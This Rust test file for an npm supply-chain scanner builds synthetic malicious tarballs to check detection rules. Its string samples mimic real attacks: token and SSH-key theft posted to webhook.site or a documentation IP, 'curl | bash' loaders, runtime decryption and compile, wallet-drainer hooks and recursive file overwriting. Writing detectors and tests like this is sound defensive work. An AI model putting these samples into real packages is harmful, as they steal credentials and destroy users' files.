//! Tarball reading and static signals.
//!
//! Real data: the benign tarballs in `testdata/fixtures/tarballs` and the packuments in
//! `testdata/fixtures/packuments`. Malicious inputs are all SYNTHETIC: built in memory here,
//! reproducing the documented shape of real attacks (no real malware is stored anywhere in this
//! project, and no package code is ever executed — the scanner only reads text).

use prov_native_core::error::Error;
use prov_native_core::lockfile::{LockedPackage, Source};
use prov_native_core::npm::tarball::{read, Limits, Package};
use prov_native_core::policy::{self, Config, Inputs, Level, TarballHooks};
use prov_native_core::report::Report;
use prov_native_core::signals::code::{scan_code, unread_files};
use prov_native_core::signals::manifest::{
    install_scripts, manifest_confusion, manifest_confusion_package,
};
use prov_native_core::signals::{Finding, Signal};
use serde_json::{json, Value};
use std::io::Write;
use std::path::PathBuf;
use std::time::{Duration, Instant};

fn shared(sub: &str) -> PathBuf {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../testdata/fixtures")
        .join(sub);
    assert!(p.is_dir(), "fixtures missing: {}", p.display());
    p
}

fn sorted_dir(sub: &str) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(shared(sub))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    v.sort();
    v
}

// ---------------------------------------------------------------------------------------------
// Building SYNTHETIC tarballs in memory
// ---------------------------------------------------------------------------------------------

enum E<'a> {
    /// A regular file under `package/`.
    File(&'a str, &'a [u8]),
    /// A raw header: exact name bytes, type, link name, body.
    Raw(&'a [u8], tar::EntryType, &'a [u8], &'a [u8]),
}

fn tar_bytes(entries: &[E]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        match e {
            E::File(name, body) => {
                let mut h = tar::Header::new_gnu();
                h.set_size(body.len() as u64);
                h.set_mode(0o644);
                h.set_entry_type(tar::EntryType::Regular);
                b.append_data(&mut h, format!("package/{name}"), *body)
                    .unwrap();
            }
            E::Raw(name, kind, link, body) => {
                let mut h = tar::Header::new_ustar();
                h.as_old_mut().name[..name.len()].copy_from_slice(name);
                h.as_old_mut().linkname[..link.len()].copy_from_slice(link);
                h.set_entry_type(*kind);
                h.set_size(body.len() as u64);
                h.set_mode(0o644);
                h.set_cksum();
                b.append(&h, *body).unwrap();
            }
        }
    }
    b.into_inner().unwrap()
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut g = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    g.write_all(data).unwrap();
    g.finish().unwrap()
}

/// A SYNTHETIC `.tgz` with `package.json` first and the files under `package/`.
fn tgz(manifest: &Value, files: &[(&str, &str)]) -> Vec<u8> {
    let m = serde_json::to_vec_pretty(manifest).unwrap();
    let mut entries = vec![E::File("package.json", &m)];
    entries.extend(files.iter().map(|(n, b)| E::File(n, b.as_bytes())));
    gz(&tar_bytes(&entries))
}

fn pkg(manifest: &Value, files: &[(&str, &str)]) -> Package {
    read(&tgz(manifest, files), &Limits::default()).unwrap()
}

fn has(findings: &[Finding], rule: &str, severity: &str, file: Option<&str>) -> bool {
    findings.iter().any(|f| {
        f.rule == rule && f.severity == severity && (file.is_none() || f.file.as_deref() == file)
    })
}

fn code_errors(findings: &[Finding]) -> Vec<&Finding> {
    findings
        .iter()
        .filter(|f| f.rule.starts_with("code.") && f.severity == "error")
        .collect()
}

/// New install hooks, through the one implementation that compares hooks between versions: the
/// policy's `installScripts` rule. `history` is a SYNTHETIC packument history of one package,
/// oldest first, one day apart; the last entry is the version installed, whose hooks come from
/// `tarball` when given (as the guard reads them), else from its registry manifest.
fn new_hooks(history: &[&Value], tarball: Option<&Package>) -> Vec<policy::Finding> {
    let out = install_rule(history, tarball);
    assert!(
        out.notes.is_empty(),
        "installScripts could not compare: {:?}",
        out.notes
    );
    out.findings
}

/// [`new_hooks`], with what the rule could not check (`notes`).
fn install_rule(history: &[&Value], tarball: Option<&Package>) -> policy::Outcome {
    let last = history.last().expect("a version");
    let name = last["name"].as_str().unwrap_or("pkg").to_string();
    let version = last["version"]
        .as_str()
        .expect("a version string")
        .to_string();
    let mut time = serde_json::Map::new();
    let mut versions = serde_json::Map::new();
    for (i, m) in history.iter().enumerate() {
        let v = m["version"].as_str().expect("a version string").to_string();
        time.insert(
            v.clone(),
            json!(format!("2020-01-{:02}T00:00:00.000Z", i + 1)),
        );
        versions.insert(v, (*m).clone());
    }
    let doc = json!({"name": name, "time": time, "versions": versions});
    let locked = LockedPackage {
        name: name.clone(),
        version,
        alias: None,
        integrity: None,
        checksum: None,
        resolved: None,
        source: Source::Registry,
        dev: false,
        optional: false,
        dev_optional: false,
        bundled: false,
        has_install_script: None,
        paths: vec![format!("node_modules/{name}")],
    };
    let report = Report::default();
    let hooks = tarball.map(TarballHooks::of);
    let cfg = Config::from_value(json!({"rules": {"installScripts": "warn"}}), "test").unwrap();
    let i = Inputs {
        locked: &locked,
        report: &report,
        packument: Some(&doc),
        history: None,
        packument_error: None,
        previous_version: None,
        earlier: None,
        tarball_hooks: hooks.as_ref(),
        now: "2026-12-01T00:00:00Z".parse().unwrap(),
    };
    let out = policy::evaluate(&cfg, &i);
    policy::Outcome {
        findings: out
            .findings
            .into_iter()
            .filter(|f| f.rule == "installScripts")
            .collect(),
        notes: out
            .notes
            .into_iter()
            .filter(|n| n.rule == "installScripts")
            .collect(),
    }
}

fn b64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in data.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn hex(data: &[u8]) -> String {
    data.iter().map(|b| format!("{b:02x}")).collect()
}

/// javascript-obfuscator-like output on ONE line: a string array, the rotation IIFE, and
/// `n` `_0x…` functions. SYNTHETIC.
fn obfuscated_line(strings: &[&str], n: usize) -> String {
    let arr: Vec<String> = strings.iter().map(|s| format!("'{s}'")).collect();
    let mut s = format!(
        "var _0x4f2a=[{}];(function(_0x1f3a2c,_0x4b2e5d){{var _0x3a1b9e=function(_0x2c4d11){{while(--_0x2c4d11){{_0x1f3a2c['push'](_0x1f3a2c['shift']());}}}};_0x3a1b9e(++_0x4b2e5d);}}(_0x4f2a,0x1b3));var _0x5e6f=function(_0x1a2b3c,_0x4d5e6f){{_0x1a2b3c=_0x1a2b3c-0x0;var _0x7a8b9c=_0x4f2a[_0x1a2b3c];return _0x7a8b9c;}};",
        arr.join(",")
    );
    for i in 0..n {
        s.push_str(&format!(
            "function _0x{a:04x}(_0x{b:04x},_0x{c:04x}){{var _0x{d:04x}=_0x5e6f('0x{e:x}');return _0x{b:04x}[_0x{d:04x}](_0x{c:04x}[_0x5e6f('0x{f:x}')]);}}",
            a = 0x1000 + i * 7,
            b = 0x2000 + i * 3,
            c = 0x3000 + i * 5,
            d = 0x4000 + i * 11,
            e = i % strings.len(),
            f = (i + 1) % strings.len()
        ));
    }
    s
}

// ---------------------------------------------------------------------------------------------
// Real fixtures
// ---------------------------------------------------------------------------------------------

/// What npm's registry does to a package.json on publish (the parts the comparison covers).
fn registry_side(m: &Value, has_gyp: bool) -> Value {
    let mut r = m.clone();
    let name = m["name"].as_str().unwrap_or("").to_string();
    let version = m["version"].as_str().unwrap_or("").to_string();
    r["_id"] = json!(format!("{name}@{version}"));
    r["dist"] = json!({"integrity": "sha512-x", "tarball": "https://registry.example/x.tgz"});
    r["gitHead"] = json!("0000000000000000000000000000000000000000");
    r["_npmUser"] = json!({"name": "someone"});
    if let Some(b) = m.get("bin").and_then(Value::as_str) {
        let short = name.rsplit('/').next().unwrap().to_string();
        r["bin"] = json!({ short: b.trim_start_matches("./") });
    }
    if has_gyp
        && m.pointer("/scripts/install").is_none()
        && m.pointer("/scripts/preinstall").is_none()
    {
        r["scripts"]["install"] = json!("node-gyp rebuild");
    }
    if let Some(opt) = m.get("optionalDependencies").and_then(Value::as_object) {
        for (k, v) in opt {
            r["dependencies"][k] = v.clone();
        }
    }
    r
}

#[test]
fn real_tarballs_read_scan_and_time() {
    let mut report = Vec::new();
    let mut worst = Duration::ZERO;
    for path in sorted_dir("tarballs") {
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        let bytes = std::fs::read(&path).unwrap();
        let p = read(&bytes, &Limits::default()).unwrap();
        assert!(p.manifest.get("name").is_some(), "{name}");
        assert_eq!(p.root, "package", "{name}");
        assert!(p.files.iter().any(|f| f.path == "package.json"), "{name}");
        assert!(p.anomalies.is_empty(), "{name}: {:?}", p.anomalies);
        // Every kept text is a listed file.
        for t in p.texts.keys() {
            assert!(
                p.files.iter().any(|f| &f.path == t && f.text),
                "{name}: {t}"
            );
        }
        // The entry point's text is kept when the file exists.
        let main = p.manifest["main"]
            .as_str()
            .unwrap_or("index.js")
            .trim_start_matches("./")
            .to_string();
        if p.has_file(&main) {
            assert!(p.text(&main).is_some(), "{name}: {main}");
        }

        let registry = registry_side(&p.manifest, p.has_gyp_file);
        let mut findings = manifest_confusion_package(&registry, &p);
        findings.extend(scan_code(&p));
        let (unread, _) = unread_files(&p);
        assert!(unread.is_empty(), "{name}: {unread:#?}");
        assert!(code_errors(&findings).is_empty(), "{name}: {findings:#?}");
        assert!(
            !findings.iter().any(|f| f.rule == "manifest-confusion"),
            "{name}: {findings:#?}"
        );
        // The same version published again: no new install script.
        let mut again = registry.clone();
        again["version"] = json!("0.0.0-again");
        let mut first = registry.clone();
        first["version"] = json!("0.0.0-first");
        assert!(new_hooks(&[&first, &again], Some(&p)).is_empty(), "{name}");
        for f in &findings {
            if f.severity != "info" {
                report.push(format!(
                    "{name}: {} {} {:?} {}",
                    f.severity, f.rule, f.file, f.evidence
                ));
            }
        }
        // Timing: best of a few runs (read + scan).
        let mut best = Duration::MAX;
        for _ in 0..5 {
            let t = Instant::now();
            let p = read(&bytes, &Limits::default()).unwrap();
            let _ = scan_code(&p);
            best = best.min(t.elapsed());
        }
        worst = worst.max(best);
        println!(
            "{name}: {} B, {} files, {} texts, read+scan {best:?}",
            bytes.len(),
            p.files.len(),
            p.texts.len()
        );
    }
    println!("warnings on real tarballs: {report:#?}");
    // Generous: debug builds and loaded machines. Release numbers are in the report.
    assert!(worst < Duration::from_secs(2), "{worst:?}");
}

#[test]
fn real_packuments_consecutive_versions() {
    for path in sorted_dir("packuments") {
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        let doc: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        let Some(versions) = doc.get("versions").and_then(Value::as_object) else {
            continue; // registry-signatures.json is a flat list
        };
        let list: Vec<&Value> = versions.values().collect();
        let mut prev: Option<&Value> = None;
        for v in &list {
            if let Some(prev) = prev {
                assert!(
                    new_hooks(&[prev, v], None).is_empty(),
                    "{name}: {}",
                    v["version"]
                );
            }
            // A version manifest against itself (as the tarball's package.json, without the
            // registry's fields): nothing.
            let mut t = (*v).clone();
            for k in [
                "_id",
                "dist",
                "gitHead",
                "_npmUser",
                "_npmVersion",
                "_nodeVersion",
                "maintainers",
                "_hasShrinkwrap",
                "_npmOperationalInternal",
            ] {
                t.as_object_mut().unwrap().remove(k);
            }
            assert!(
                manifest_confusion(v, &t).is_empty(),
                "{name}: {}",
                v["version"]
            );
            prev = Some(v);
        }
        // Abbreviated against full: the corgi file has no scripts and no hasInstallScript.
        if name.ends_with(".corgi.json") {
            let full: Value = serde_json::from_slice(
                &std::fs::read(path.with_file_name(name.replace(".corgi.", ".full."))).unwrap(),
            )
            .unwrap();
            for (ver, corgi) in versions {
                let f = &full["versions"][ver];
                assert!(
                    manifest_confusion(corgi, f).is_empty(),
                    "{name} {ver}: {:?}",
                    manifest_confusion(corgi, f)
                );
                // A tarball with a hidden postinstall against the corgi manifest.
                let mut evil = f.clone();
                evil["scripts"] = json!({"postinstall": "node x.js"});
                let c = manifest_confusion(corgi, &evil);
                assert_eq!(c.len(), 1, "{name} {ver}");
                assert_eq!(c[0].severity, "error");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Install scripts
// ---------------------------------------------------------------------------------------------

#[test]
fn benign_node_gyp_package() {
    // binding.gyp, no scripts: npm runs `node-gyp rebuild`.
    let m =
        json!({"name": "native-thing", "version": "1.0.0", "main": "index.js", "gypfile": true});
    let p = pkg(
        &m,
        &[
            (
                "binding.gyp",
                "{ 'targets': [ { 'target_name': 'addon', 'sources': [ 'src/addon.cc' ] } ] }",
            ),
            ("src/addon.cc", "#include <node_api.h>\n"),
            (
                "index.js",
                "module.exports = require('./build/Release/addon.node');\n",
            ),
        ],
    );
    assert!(p.has_binding_gyp && p.has_gyp_file);
    let h = TarballHooks::of(&p);
    assert_eq!(
        h.hooks,
        [("install".to_string(), "node-gyp rebuild".to_string())]
    );
    assert!(h.binding_gyp_implied, "{h:?}");
    let f = scan_code(&p);
    assert!(code_errors(&f).is_empty(), "{f:#?}");
    assert_eq!(unread_files(&p).0, vec![]);
    // The same with an explicit `install: node-gyp rebuild`, and the registry's copy of it.
    let m2 = json!({"name": "native-thing", "version": "1.0.1", "scripts": {"install": "node-gyp rebuild"}});
    let p2 = pkg(
        &m2,
        &[("binding.gyp", "{}"), ("index.js", "module.exports = 1;\n")],
    );
    assert_eq!(
        install_scripts(&p2.manifest, true),
        vec![("install".to_string(), "node-gyp rebuild".to_string())]
    );
    let h2 = TarballHooks::of(&p2);
    assert_eq!(
        h2.hooks,
        [("install".to_string(), "node-gyp rebuild".to_string())]
    );
    assert!(!h2.binding_gyp_implied);
    let mut f2 = scan_code(&p2);
    f2.extend(unread_files(&p2).0);
    assert!(
        f2.iter()
            .all(|f| f.severity != "error" && f.severity != "warning"),
        "{f2:#?}"
    );
    // The registry adds `install: node-gyp rebuild` for the first one: not confusion.
    let reg = json!({"_id": "native-thing@1.0.0", "name": "native-thing", "version": "1.0.0", "main": "index.js",
        "gypfile": true, "scripts": {"install": "node-gyp rebuild"}, "dist": {}});
    assert!(manifest_confusion_package(&reg, &p).is_empty());
    // Without a .gyp file in the tarball, the same registry addition is flagged.
    let p3 = pkg(
        &json!({"name": "native-thing", "version": "1.0.0", "main": "index.js"}),
        &[("index.js", "1")],
    );
    assert!(has(
        &manifest_confusion_package(&reg, &p3),
        "manifest-confusion",
        "error",
        None
    ));
    // A postinstall `node-gyp rebuild` that is new since the previous version: still reported
    // (it runs whatever binding.gyp says), with evidence that it is a well-known build command.
    let prev = json!({"_id": "native-thing@1.0.0", "name": "native-thing", "version": "1.0.0", "scripts": {}});
    let cur = json!({"_id": "native-thing@1.0.1", "name": "native-thing", "version": "1.0.1", "scripts": {"postinstall": "node-gyp rebuild"}});
    let n = new_hooks(&[&prev, &cur], None);
    assert_eq!(n.len(), 1, "{n:?}");
    assert_eq!(n[0].level, Level::Warn);
    assert!(
        n[0].evidence
            .iter()
            .any(|e| e.contains("well-known build command")),
        "{:?}",
        n[0].evidence
    );
}

#[test]
fn new_install_script_against_previous_version() {
    let prev =
        json!({"_id": "lib@1.0.0", "name": "lib", "version": "1.0.0", "scripts": {"test": "tap"}});
    let cur = json!({"_id": "lib@1.0.1", "name": "lib", "version": "1.0.1", "scripts": {"test": "tap", "postinstall": "node bundle.js"}});
    let f = new_hooks(&[&prev, &cur], None);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].rule, "installScripts");
    assert_eq!(f[0].level, Level::Warn);
    assert_eq!(
        f[0].message,
        "new install script: postinstall: node bundle.js"
    );
    assert_eq!(
        f[0].evidence[0],
        "lib@1.0.0 (published before) had no install scripts"
    );
    // The same hook with another command is new too, and says what it was.
    let mut changed = cur.clone();
    changed["version"] = json!("1.0.2");
    changed["scripts"]["postinstall"] = json!("node other.js");
    let f = new_hooks(&[&prev, &cur, &changed], None);
    assert_eq!(f.len(), 1, "{f:?}");
    assert!(
        f[0].evidence[0].contains("had: postinstall: node bundle.js"),
        "{:?}",
        f[0].evidence
    );
    // Same hooks (blanks aside): nothing.
    let mut same = cur.clone();
    same["version"] = json!("1.0.2");
    same["scripts"]["postinstall"] = json!("node   bundle.js");
    assert!(new_hooks(&[&prev, &cur, &same], None).is_empty());
    // A first version has nothing to compare with: its hooks are reported (fail closed).
    let f = new_hooks(&[&cur], None);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].evidence[0], "first published version");
    // Abbreviated manifests: a new hasInstallScript after a version without one.
    let corgi_old = json!({"name": "lib", "version": "1.0.0"});
    let corgi_new = json!({"name": "lib", "version": "1.0.1", "hasInstallScript": true});
    assert_eq!(new_hooks(&[&corgi_old, &corgi_new], None).len(), 1);
    // Both abbreviated with hasInstallScript: the hooks are unknown, so it is said, not passed.
    let out = install_rule(&[&corgi_new, &corgi_new_again()], None);
    assert!(out.findings.is_empty(), "{:?}", out.findings);
    assert_eq!(
        out.notes[0].reason,
        "hooks unknown (abbreviated manifest, tarball not read)"
    );
}

/// SYNTHETIC: an abbreviated manifest that says hasInstallScript, one version later.
fn corgi_new_again() -> Value {
    json!({"name": "lib", "version": "1.0.2", "hasInstallScript": true})
}

#[test]
fn manifest_confusion_hidden_preinstall() {
    // The packument says: no scripts. The tarball's package.json has a preinstall.
    let registry = json!({"_id": "quiet@2.0.0", "name": "quiet", "version": "2.0.0", "main": "index.js",
        "dependencies": {"left-pad": "^1.3.0"}, "dist": {"integrity": "sha512-x"}});
    let tar = json!({"name": "quiet", "version": "2.0.0", "main": "index.js",
        "dependencies": {"left-pad": "^1.3.0"}, "scripts": {"preinstall": "node ./scripts/setup.js"}});
    let f = manifest_confusion(&registry, &tar);
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(
        (f[0].rule.as_str(), f[0].severity.as_str()),
        ("manifest-confusion", "error")
    );
    assert!(
        matches!(&f[0].signal, Signal::ManifestMismatch { field, tarball, .. } if field == "scripts" && tarball.contains("preinstall"))
    );
    // Through the full scan with the tarball.
    let p = pkg(
        &tar,
        &[
            ("index.js", "module.exports = 1;\n"),
            ("scripts/setup.js", "console.log('hi');\n"),
        ],
    );
    let all = manifest_confusion_package(&registry, &p);
    assert!(has(
        &all,
        "manifest-confusion",
        "error",
        Some("package.json")
    ));
    assert_eq!(
        TarballHooks::of(&p).hooks,
        [(
            "preinstall".to_string(),
            "node ./scripts/setup.js".to_string()
        )]
    );
    // The hook the registry hides is new against the registry's own history too.
    assert_eq!(new_hooks(&[&registry], Some(&p)).len(), 1);
    // Hidden dependency, other name, other version, other bin: one finding each.
    for (field, t) in [
        (
            "dependencies",
            json!({"name": "quiet", "version": "2.0.0", "main": "index.js", "dependencies": {"left-pad": "^1.3.0", "evil": "1.0.0"}}),
        ),
        (
            "name",
            json!({"name": "loud", "version": "2.0.0", "main": "index.js", "dependencies": {"left-pad": "^1.3.0"}}),
        ),
        (
            "version",
            json!({"name": "quiet", "version": "2.0.1", "main": "index.js", "dependencies": {"left-pad": "^1.3.0"}}),
        ),
        (
            "bin",
            json!({"name": "quiet", "version": "2.0.0", "main": "index.js", "dependencies": {"left-pad": "^1.3.0"}, "bin": {"ls": "x.js"}}),
        ),
    ] {
        let f = manifest_confusion(&registry, &t);
        assert_eq!(f.len(), 1, "{field}: {f:#?}");
        assert!(
            matches!(&f[0].signal, Signal::ManifestMismatch { field: got, .. } if got == field)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// SYNTHETIC malicious samples
// ---------------------------------------------------------------------------------------------

/// SYNTHETIC sample of the documented Shai-Hulud worm (September 2025): `postinstall` runs a
/// `bundle.js` that runs TruffleHog, reads tokens from `process.env`, creates a repository and a
/// `.github/workflows/shai-hulud-workflow.yml` through api.github.com, and posts to webhook.site.
const SHAI_HULUD_BUNDLE: &str = r#"// SYNTHETIC test sample: documented Shai-Hulud patterns, not functional.
const { execSync } = require("child_process");
const https = require("https");
const os = require("os");
function secrets() {
  const found = execSync("trufflehog filesystem " + os.homedir() + " --json", { encoding: "utf8" });
  return { found, npm: process.env.NPM_TOKEN, gh: process.env.GITHUB_TOKEN,
    aws: [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY] };
}
function gh(path, body) {
  const r = https.request({ hostname: "api.github.com", path, method: "POST",
    headers: { Authorization: "token " + process.env.GITHUB_TOKEN } });
  r.end(JSON.stringify(body));
}
const data = secrets();
gh("/user/repos", { name: "Shai-Hulud" });
gh("/repos/x/y/contents/.github/workflows/shai-hulud-workflow.yml", { content: "" });
const w = https.request({ hostname: "webhook.site", path: "/00000000-0000-0000-0000-000000000000", method: "POST" });
w.end(JSON.stringify(data));
"#;

#[test]
fn synthetic_shai_hulud() {
    let m = json!({"name": "victim-lib", "version": "1.2.4", "main": "index.js",
        "scripts": {"postinstall": "node bundle.js"}});
    let p = pkg(
        &m,
        &[
            (
                "index.js",
                "module.exports = function add(a, b) { return a + b; };\n",
            ),
            ("bundle.js", SHAI_HULUD_BUNDLE),
        ],
    );
    let prev = json!({"_id": "victim-lib@1.2.3", "name": "victim-lib", "version": "1.2.3", "main": "index.js"});
    let f = scan_code(&p);
    for rule in [
        "code.shai-hulud",
        "code.webhook-exfiltration",
        "code.child-process-network-env",
    ] {
        assert!(has(&f, rule, "error", Some("bundle.js")), "{rule}: {f:#?}");
    }
    let mut cur = m.clone();
    cur["_id"] = json!("victim-lib@1.2.4");
    let n = new_hooks(&[&prev, &cur], Some(&p));
    assert_eq!(n.len(), 1, "{n:?}");
    assert_eq!(
        n[0].message,
        "new install script: postinstall: node bundle.js"
    );
    assert_eq!(
        TarballHooks::of(&p).hooks,
        [("postinstall".to_string(), "node bundle.js".to_string())]
    );
    assert!(
        !f.iter().any(|f| f.file.as_deref() == Some("index.js")),
        "{f:#?}"
    );
    // The excerpt points at the code.
    let ex = f.iter().find_map(|f| match &f.signal {
        Signal::SuspiciousCode { rule, excerpt, .. } if rule == "code.webhook-exfiltration" => {
            Some(excerpt.clone())
        }
        _ => None,
    });
    assert!(ex.unwrap().contains("webhook.site"));
}

/// SYNTHETIC sample of Shai-Hulud 2.0 (November 2025): `preinstall: node setup_bun.js`, which
/// installs Bun and starts an obfuscated `bun_environment.js`.
#[test]
fn synthetic_shai_hulud_2() {
    let setup = r#"// SYNTHETIC test sample: documented Shai-Hulud 2.0 loader shape.
const { spawn, execSync } = require('child_process');
const path = require('path');
execSync('curl -fsSL https://bun.sh/install | bash');
spawn('bun', [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();
"#;
    let env = obfuscated_line(
        &[
            "trufflehog",
            "NPM_TOKEN",
            "GITHUB_TOKEN",
            "api.github.com",
            "discussion.yaml",
            "/-/whoami",
        ],
        120,
    );
    let m = json!({"name": "victim2", "version": "3.0.1", "scripts": {"preinstall": "node setup_bun.js"}});
    let p = pkg(
        &m,
        &[
            ("setup_bun.js", setup),
            ("bun_environment.js", &env),
            ("index.js", "module.exports = {};\n"),
        ],
    );
    let f = scan_code(&p);
    assert!(
        has(
            &f,
            "code.shai-hulud",
            "error",
            Some("package.json#scripts.preinstall")
        ),
        "{f:#?}"
    );
    assert!(
        has(&f, "code.shai-hulud", "error", Some("setup_bun.js")),
        "{f:#?}"
    );
    // Reached from the install target through a string literal: install context.
    assert!(
        has(&f, "code.obfuscation", "error", Some("bun_environment.js")),
        "{f:#?}"
    );
    assert!(
        has(&f, "code.shai-hulud", "error", Some("bun_environment.js")),
        "{f:#?}"
    );
}

/// SYNTHETIC sample of the event-stream / flatmap-stream attack (2018): the entry point decodes
/// hex strings, decrypts a payload with `crypto.createDecipher` keyed by a variable from
/// `process.env`, and compiles it with `new module.constructor` + `_compile`.
#[test]
fn synthetic_flatmap_stream() {
    let payload = r#"!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();"#;
    let stream = "var Stream=require('stream').Stream;module.exports=function(e,t){var n=new Stream;n.writable=n.readable=!0;return n};";
    let index = format!("{stream}\n{payload}\n");
    // Second stage data file: hex strings, no code.
    let data = format!(
        "module.exports=[\"{}\",\"{}\",\"{}\",\"{}\",\"{}\",\"{}\",\"{}\",\"{}\",\"{}\",\"{}\"];",
        "00".repeat(64),
        hex(b"SYNTHETIC"),
        hex(b"crypto"),
        hex(b"env"),
        hex(b"npm_package_description"),
        hex(b"aes256"),
        hex(b"createDecipher"),
        hex(b"_compile"),
        hex(b"hex"),
        hex(b"utf8"),
    );
    let m = json!({"name": "flatmap-stream", "version": "0.1.1", "main": "index.min.js"});
    let p = pkg(&m, &[("index.min.js", &index), ("test/data.js", &data)]);
    let f = scan_code(&p);
    assert!(
        has(&f, "code.eval-decoded", "error", Some("index.min.js")),
        "{f:#?}"
    );
    // A plain variant: decipher + _compile, no hex.
    let plain = "const c=require('crypto');const d=c.createDecipher('aes256',process.env.npm_package_description);let s=d.update(blob,'hex','utf8')+d.final('utf8');const m=new module.constructor();m._compile(s,'');";
    let p2 = pkg(
        &json!({"name": "x", "version": "1.0.0"}),
        &[("index.js", plain)],
    );
    assert!(has(
        &scan_code(&p2),
        "code.eval-decoded",
        "error",
        Some("index.js")
    ));
}

/// SYNTHETIC sample of the chalk/debug compromise (September 2025): a browser wallet drainer
/// appended to the entry point as one long obfuscated line that hooks `fetch`/`XMLHttpRequest`
/// and `window.ethereum`.
#[test]
fn synthetic_chalk_debug_wallet_drainer() {
    let strings = [
        "ethereum",
        "request",
        "eth_sendTransaction",
        "fetch",
        "XMLHttpRequest",
        "prototype",
        "open",
        "send",
        "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976",
    ];
    let line = obfuscated_line(&strings, 150);
    assert!(line.len() > 10_000);
    let index = format!("'use strict';\nconst ansiStyles = {{ bold: [1, 22] }};\nmodule.exports = ansiStyles;\n{line}\n");
    let m = json!({"name": "color-lib", "version": "5.6.1", "main": "index.js"});
    let p = pkg(&m, &[("index.js", &index)]);
    let f = scan_code(&p);
    assert!(
        has(&f, "code.obfuscation", "error", Some("index.js")),
        "{f:#?}"
    );
    assert!(
        has(&f, "code.wallet-drainer", "error", Some("index.js")),
        "{f:#?}"
    );
    // Un-obfuscated hooks are caught too.
    let hook = "const o = window.fetch; window.fetch = async (...a) => { const r = await o(...a); return r; };\nif (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = (x) => req(x); }\n";
    let p2 = pkg(&m, &[("index.js", hook)]);
    assert!(has(
        &scan_code(&p2),
        "code.wallet-drainer",
        "error",
        Some("index.js")
    ));
}

/// SYNTHETIC sample of node-ipc 10.1.x "peacenotwar" (March 2022): a module required by the
/// entry point fetches a geo-IP service (URL base64-encoded) and overwrites files recursively.
#[test]
fn synthetic_node_ipc_geo_sabotage() {
    let url = b64(b"https://api.ipgeolocation.io/ipgeo?apiKey=00000000000000000000000000000000");
    let geo = format!(
        r#"// SYNTHETIC test sample: documented node-ipc protestware shape, not functional.
const u = Buffer.from("{url}", "base64").toString();
const https = require("https"); const fs = require("fs"); const path = require("path");
function deeper(dir) {{ for (const f of fs.readdirSync(dir)) {{ const p = path.join(dir, f);
  try {{ if (fs.statSync(p).isDirectory()) deeper(p); else fs.writeFileSync(p, "\u2764"); }} catch (e) {{}} }} }}
https.get(u, (res) => {{ let d = ""; res.on("data", (c) => (d += c)); res.on("end", () => {{
  const c = JSON.parse(d).country_name; if (c === "X") deeper("/"); }}); }});
"#
    );
    let m = json!({"name": "ipc-lib", "version": "10.1.1", "main": "node-ipc.js"});
    let p = pkg(
        &m,
        &[
            (
                "node-ipc.js",
                "import './dao/ssl-geospec.js';\nexport { default } from './services/IPC.js';\n",
            ),
            ("services/IPC.js", "export default class IPC {}\n"),
            ("dao/ssl-geospec.js", &geo),
        ],
    );
    let f = scan_code(&p);
    assert!(
        has(&f, "code.geo-sabotage", "error", Some("dao/ssl-geospec.js")),
        "{f:#?}"
    );
    let ex = f.iter().find_map(|f| match &f.signal {
        Signal::SuspiciousCode { rule, excerpt, .. } if rule == "code.geo-sabotage" => {
            Some(excerpt.clone())
        }
        _ => None,
    });
    assert!(ex.unwrap().starts_with("decoded: "));
    // The same file not reached from any entry point: one step lower.
    let p2 = pkg(
        &json!({"name": "ipc-lib", "version": "10.1.1", "main": "main.js"}),
        &[("main.js", "1"), ("dao/ssl-geospec.js", &geo)],
    );
    assert!(has(
        &scan_code(&p2),
        "code.geo-sabotage",
        "warning",
        Some("dao/ssl-geospec.js")
    ));
}

/// SYNTHETIC: reads of ~/.npmrc and ~/.ssh/id_rsa sent with http.request.
const CRED_EXFIL: &str = r#"// SYNTHETIC test sample.
const fs = require('fs'); const os = require('os'); const http = require('http'); const path = require('path');
const home = os.homedir();
const npmrc = fs.readFileSync(path.join(home, '.npmrc'), 'utf8');
const key = fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8');
const req = http.request({ host: '203.0.113.7', port: 8080, method: 'POST', path: '/c' });
req.end(JSON.stringify({ npmrc, key }));
"#;

#[test]
fn synthetic_credential_exfiltration() {
    // From an install script.
    let m = json!({"name": "helper", "version": "0.0.2", "scripts": {"postinstall": "node collect.js"}});
    let f = scan_code(&pkg(&m, &[("collect.js", CRED_EXFIL)]));
    assert!(
        has(&f, "code.credential-read", "error", Some("collect.js")),
        "{f:#?}"
    );
    // From the entry point (runs on require): two credential files read → still an error.
